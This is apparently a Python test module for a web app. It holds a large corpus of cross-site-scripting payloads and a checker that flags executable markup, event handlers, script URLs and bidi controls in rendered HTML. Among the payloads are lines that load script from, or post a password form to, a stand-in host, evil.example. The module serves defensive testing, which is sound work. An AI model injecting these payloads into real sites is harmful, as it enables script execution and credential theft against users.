"""Hostile text for every field people type into, and a checker that the HTML it became is inert.

Use it for every text field in the app — report sections, names, scaling reasons, plan actions,
notes — on every way out: pages, Socket.IO payloads that end up in the DOM, HTML exports::

    from tests.xss_corpus import XSS_CORPUS, assert_inert

    @pytest.mark.parametrize("payload", XSS_CORPUS, ids=CORPUS_IDS)
    def test_reason_is_inert(payload):
        assert_inert(render_the_thing(payload))

``XSS_CORPUS`` is a list of strings: script tags (plain, mixed case, split, nested), event
attributes, ``javascript:``/``vbscript:``/``data:`` URLs in HTML and in every Markdown link form
(inline, reference, autolink, image), obfuscated schemes (entities, mixed case, tabs, newlines,
control and zero-width characters), SVG/MathML, iframes, styles, meta refresh, base, forms,
comment and mutation tricks, unclosed tags, bidi overrides, zero-width and tag characters, null
bytes, lone surrogates, deep nesting and 200 KB payloads (each entry is at most 200,000
characters). ``CORPUS_IDS`` gives each a short printable test id. ``SHORT_CORPUS`` is the entries
under 1,000 characters, for a test that puts many of them into one request body.

``assert_inert(html)`` raises ``AssertionError`` naming each offending fragment when the HTML
holds something a browser would run or that disguises text:

- a start tag ``<script``, ``<iframe``, ``<frame(set)``, ``<object``, ``<embed``, ``<applet``,
  ``<svg``, ``<math``, ``<img``/``<image``, ``<style``, ``<meta``, ``<base``, ``<form``,
  ``<link`` or ``<portal``;
- an event-handler attribute (any attribute whose name starts with ``on``);
- a ``javascript:``, ``vbscript:``, ``livescript:`` or ``data:`` URL at the start of an attribute
  value (after decoding entities and removing the tabs, newlines, control and invisible
  characters browsers ignore), in any attribute except the plain-text ones (``title``, ``alt``,
  ``value``, ``placeholder``, ``content``, ``aria-label``...); ``srcset`` candidates one by one;
- CSS that runs code in a ``style`` attribute (``expression(``, ``-moz-binding``, ``behavior:``,
  a script URL);
- a bidi control character (U+061C, U+200E, U+200F, U+202A–U+202E, U+2066–U+2069), literal or as
  an entity.

It tokenises the way the HTML standard does (quoted and unquoted attributes, ``/`` between
attributes, comments, raw-text elements such as ``<textarea>`` and ``<noscript>``, a tag left open
at the end counted as a tag), so ``<p title="<script>">`` passes and ``<a title="x"onclick=y>``
fails.

Whole pages: a document that starts with ``<!doctype html>`` (or ``page=True``) is checked in page
mode, which accepts the app's own furniture and nothing more: ``<meta>`` without ``http-equiv``,
``<link>`` stylesheets/icons and ``<script src>`` under ``/static/``, ``<script
type="application/json">`` data blocks, ``<form>`` posting to a same-site path, ``<img>`` from a
same-site path or a ``data:image/...`` URL, and inline ``<svg>`` (QR codes, icons). Event
attributes, script URLs and bidi controls are refused in page mode too.
"""

from __future__ import annotations

import html as html_lib
import re
from collections.abc import Iterator
from typing import Final, NamedTuple

__all__ = ["CORPUS_IDS", "SHORT_CORPUS", "XSS_CORPUS", "assert_inert", "executable_fragments"]

_SCRIPT_B64: Final = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
_POLYGLOT: Final = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
)
_HOSTILE_LINE: Final = (
    "<script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)> "
    "\u202eevil\u202c <svg onload=alert(1)> [y](&#106;avascript:alert(1))\n"
)
_PROSE: Final = (
    "Dad has been drinking more since March and Mum says he shouts at night. School reports "
    "that attendance fell to 82%. The health visitor saw the baby on 3 March.\n\n"
)

XSS_CORPUS: Final[list[str]] = [
    # -- script tags ---------------------------------------------------------------------------
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script src=//evil.example/x.js></script>",
    "<script/xss src=x></script>",
    "<script\n>alert(1)</script\n>",
    "</p><script>alert(1)</script><p>",
    "<div><script>alert(1)</script></div>",
    "Before\n\n<script>\nalert(1)\n</script>\n\nafter",
    "`code` <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "\x00<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    # -- event attributes -----------------------------------------------------------------------
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    '<p onmouseover="alert(1)">hover</p>',
    '<a title="x"onclick="alert(1)">x</a>',
    "<isindex type=image src=1 onerror=alert(1)>",
    # -- SVG, MathML, frames, objects ------------------------------------------------------------
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
    '<text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    # -- styles, meta, base, forms, links ----------------------------------------------------------
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background-image:url(javascript:alert(1))">x</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<form action="javascript:alert(1)"><button>Go</button></form>',
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # -- raw HTML links ----------------------------------------------------------------------------
    '<a href="javascript:alert(1)">x</a>',
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    f'<a href="data:text/html;base64,{_SCRIPT_B64}">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="javascript:alert(1)',
    # -- Markdown inline links ---------------------------------------------------------------------
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://example.com/%0Aalert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript\x00:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](&#8203;javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[x](&#0000106&#0000097vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    f"[x](data:text/html;base64,{_SCRIPT_B64})",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    '[x](javascript:alert(1) "title")',
    '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
    '[x](https://example.com "<script>alert(1)</script>")',
    "[x](//evil.example/)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    # -- Markdown reference links, autolinks, images -----------------------------------------------
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[x][r]\n\n[r]: https://example.com "a\\" onclick=\\"alert(1)"',
    "[x][r]\n\n[r]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<https://example.com/"onmouseover="alert(1)>',
    '<a@b.example"onmouseover="alert(1)>',
    "![x](javascript:alert(1))",
    '![x](https://example.com/x.png "onerror=alert(1)")',
    '![x" onerror="alert(1)](https://example.com/x.png)',
    "![x][img]\n\n[img]: javascript:alert(1)",
    f"![x](data:image/svg+xml;base64,{_SCRIPT_B64})",
    # -- Markdown blocks carrying HTML -------------------------------------------------------------
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "- [x](javascript:alert(1))\n- <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "**<svg onload=alert(1)>**",
    'Paragraph {: onclick="alert(1)" }',
    "# Heading {#x onclick=alert(1)}",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    # -- comments, CDATA, mutation tricks ----------------------------------------------------------
    "<!--<script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    "<table><tr><td><img src=x onerror=alert(1)></td></tr></table>",
    # -- unclosed tags ---------------------------------------------------------------------------
    "<script>alert(1)",
    "<img src=x onerror=alert(1)",
    "<a href=javascript:alert(1) ",
    "<style>",
    # -- bare text that only looks dangerous ---------------------------------------------------
    "javascript:alert(1)",
    'https://example.com/"><script>alert(1)</script>',
    _POLYGLOT,
    # -- Unicode: direction, invisibles, controls --------------------------------------------------
    "Dad \u202eevil\u202c said",
    "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first strong\u2069 \u202aemb\u202b\u202c \u202d",
    "&#8238;evil&#x202E; &#x2066;x&#x2069;",
    "[\u202etxt.exe](https://example.com/\u202e)",
    "java\u200bscript:alert(1) zero\u200cwidth\u200djoiners \u2060 \u00ad",
    "Tag smuggling: \U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 here",
    "Lone surrogate \ud800 and noncharacter \uffff and C1 \x85\x9b control",
    "Null\x00bytes\x00everywhere\x00<script>alert(1)</script>",
    # -- nesting and size --------------------------------------------------------------------------
    "> " * 5_000 + "<script>alert(1)</script>",
    "+ " * 3_000 + "<img src=x onerror=alert(1)>",
    "[" * 20_000 + "x](javascript:alert(1))",
    ((_PROSE * 10 + _HOSTILE_LINE + "\n") * 115)[:200_000],  # 200 KB: prose, hostile lines
    (_HOSTILE_LINE * 2_000)[:200_000],  # 200 KB of nothing but hostile markup
]

# The entries under 1,000 characters, for tests that send many of them in one request (the whole
# corpus is about 440 KB, and single fields are limited to 200,000 characters).
SHORT_CORPUS: Final[list[str]] = [entry for entry in XSS_CORPUS if len(entry) < 1_000]

CORPUS_IDS: Final[list[str]] = [
    f"{index:03d}-" + re.sub(r"[^A-Za-z0-9]+", "_", entry[:24]).strip("_")
    for index, entry in enumerate(XSS_CORPUS)
]

# ---------------------------------------------------------------------------------------------
# The checker
# ---------------------------------------------------------------------------------------------

_DANGEROUS_TAGS: Final = frozenset(
    {
        "script",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "svg",
        "math",
        "img",
        "image",
        "style",
        "meta",
        "base",
        "form",
        "link",
        "portal",
    }
)
# Attributes whose value is only ever shown as text, never followed as a URL.
_TEXT_ATTRIBUTES: Final = frozenset(
    {
        "title",
        "alt",
        "value",
        "placeholder",
        "label",
        "content",
        "aria-label",
        "aria-description",
        "aria-roledescription",
        "aria-valuetext",
        "aria-placeholder",
    }
)
_BIDI_CONTROL_RE: Final = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_RAW_TEXT: Final = frozenset(
    {"script", "style", "xmp", "iframe", "noembed", "noframes", "noscript", "textarea", "title"}
)
_WS: Final = "\t\n\f\r "
_SCHEME_RE: Final = re.compile(r"(?:javascript|vbscript|livescript|data):")
# What browsers ignore in a URL (tab, newline, leading controls) plus invisible characters.
_URL_IGNORED_RE: Final = re.compile("[\x00-\x20\u00ad\u200b-\u200f\u2060-\u2064\ufeff]")
_CSS_DANGER_RE: Final = re.compile(
    r"expression\(|-moz-binding|behaviou?r:|(?:javascript|vbscript|livescript):"
)
_COMMENT_END_RE: Final = re.compile(r"--!?>")
_ASCII_LETTER_RE: Final = re.compile(r"[A-Za-z]")
_DOCTYPE_RE: Final = re.compile(r"\s*(?:<!--.*?-->\s*)*<!doctype\s+html", re.IGNORECASE | re.DOTALL)


class _Tag(NamedTuple):
    name: str
    attrs: list[tuple[str, str]]
    source: str
    end_tag: bool


def _read_tag(html: str, start: int, name_at: int) -> tuple[_Tag, int]:
    """Tokenise one tag from its name to its ``>`` (or the end of the text), as browsers do."""
    n = len(html)
    j = name_at
    while j < n and html[j] not in _WS and html[j] not in "/>":
        j += 1
    name = html[name_at:j].lower().replace("\x00", "\ufffd")
    attrs: list[tuple[str, str]] = []
    while j < n:
        char = html[j]
        if char in _WS or char == "/":
            j += 1
            continue
        if char == ">":
            j += 1
            return _Tag(name, attrs, html[start:j], html[start + 1] == "/"), j
        name_start = j
        j += 1  # the first character of a name may be anything, even "="
        while j < n and html[j] not in _WS and html[j] not in "/>=":
            j += 1
        attribute = html[name_start:j].lower()
        while j < n and html[j] in _WS:
            j += 1
        value = ""
        if j < n and html[j] == "=":
            j += 1
            while j < n and html[j] in _WS:
                j += 1
            if j < n and html[j] in "\"'":
                close = html.find(html[j], j + 1)
                value, j = (html[j + 1 :], n) if close < 0 else (html[j + 1 : close], close + 1)
            else:
                value_start = j
                while j < n and html[j] not in _WS and html[j] != ">":
                    j += 1
                value = html[value_start:j]
        attrs.append((attribute, html_lib.unescape(value)))
    # A tag still open at the end: a browser would close it on whatever markup follows the
    # fragment in the page, so count it as a tag.
    return _Tag(name, attrs, html[start:], html[start + 1] == "/"), n


def _tags(html: str) -> Iterator[_Tag]:
    """Yield every tag a browser would see in the HTML, skipping comments and raw text."""
    n = len(html)
    i = 0
    while True:
        lt = html.find("<", i)
        if lt < 0 or lt + 1 >= n:
            return
        nxt = html[lt + 1]
        if html.startswith("<!--", lt):
            j = lt + 4
            if html.startswith(">", j) or html.startswith("->", j):
                i = html.find(">", j) + 1
                continue
            found = _COMMENT_END_RE.search(html, j)
            i = found.end() if found else n
        elif nxt in "!?" or (nxt == "/" and not _ASCII_LETTER_RE.match(html, lt + 2)):
            close = html.find(">", lt + 2)  # bogus comment, <!doctype>, </ >
            i = n if close < 0 else close + 1
        elif nxt == "/" or (nxt.isascii() and nxt.isalpha()):
            tag, i = _read_tag(html, lt, lt + (2 if nxt == "/" else 1))
            yield tag
            if tag.end_tag:
                continue
            if tag.name == "plaintext":
                return
            if tag.name in _RAW_TEXT:
                end = re.compile(rf"</{re.escape(tag.name)}[{_WS}/>]", re.IGNORECASE).search(
                    html, i
                )
                i = end.start() if end else n
        else:
            i = lt + 1


def _same_site_path(url: str) -> bool:
    """Say whether a URL is a path on this site (not protocol-relative, no scheme)."""
    url = _URL_IGNORED_RE.sub("", url)
    return url.startswith("/") and not url.startswith(("//", "/\\"))


def _allowed_in_page(tag: _Tag) -> bool:
    """Say whether a dangerous-looking tag is the app's own page furniture."""
    attrs = dict(tag.attrs)
    if tag.name == "meta":
        return "http-equiv" not in attrs
    if tag.name == "link":
        rel = set(attrs.get("rel", "").lower().split())
        allowed = {"stylesheet", "icon", "manifest", "preload", "modulepreload", "apple-touch-icon"}
        href = attrs.get("href", "")
        return bool(rel) and rel <= allowed and _same_site_path(href) and "/static/" in href
    if tag.name == "script":
        if attrs.get("type", "").strip().lower() == "application/json" and "src" not in attrs:
            return True
        return _same_site_path(attrs.get("src", "")) and attrs["src"].startswith("/static/")
    if tag.name == "form":
        return "action" not in attrs or _same_site_path(attrs["action"])
    if tag.name == "img":
        src = attrs.get("src", "")
        return _same_site_path(src) or bool(
            re.match(r"data:image/(?:png|gif|jpeg|webp|svg\+xml)[;,]", src.strip(), re.I)
        )
    return tag.name == "svg"


def _url_is_script(value: str) -> bool:
    """Say whether an attribute value starts with a script or data URL."""
    return bool(_SCHEME_RE.match(_URL_IGNORED_RE.sub("", value).lower()))


def _short(text: str) -> str:
    """Shorten a fragment for an error message."""
    return text if len(text) <= 160 else text[:150] + "…"


def executable_fragments(html: str, *, page: bool | None = None) -> list[str]:
    """Return a description of every executable or disguising construct in the HTML."""
    if page is None:
        page = bool(_DOCTYPE_RE.match(html))
    problems: list[str] = []
    for tag in _tags(html):
        if tag.end_tag:
            continue
        where = _short(tag.source)
        if tag.name in _DANGEROUS_TAGS and not (page and _allowed_in_page(tag)):
            problems.append(f"<{tag.name}> tag: {where}")
        for name, value in tag.attrs:
            if name.startswith("on") and len(name) > 2:
                problems.append(f"event attribute {name}: {where}")
            elif name == "style":
                css = re.sub(r"/\*.*?\*/|\\|\s", "", value, flags=re.DOTALL).lower()
                if _CSS_DANGER_RE.search(css):
                    problems.append(f"script in style attribute: {where}")
            elif name == "srcset":
                if any(_url_is_script(part) for part in value.split(",")):
                    problems.append(f"script URL in srcset: {where}")
            elif name not in _TEXT_ATTRIBUTES and not name.startswith("aria-"):
                if _url_is_script(value) and not (
                    page and tag.name == "img" and name == "src" and _allowed_in_page(tag)
                ):
                    problems.append(f"script URL in {name}: {where}")
    decoded = html_lib.unescape(html)
    for found in _BIDI_CONTROL_RE.finditer(decoded):
        context = decoded[max(found.start() - 30, 0) : found.end() + 30]
        problems.append(f"bidi control U+{ord(found.group()):04X}: {context!r}")
    return problems


def assert_inert(html: str, *, page: bool | None = None) -> None:
    """Fail with the offending fragments if the HTML could run code or disguise text."""
    problems = executable_fragments(str(html), page=page)
    assert not problems, "not inert:\n  " + "\n  ".join(problems[:20])
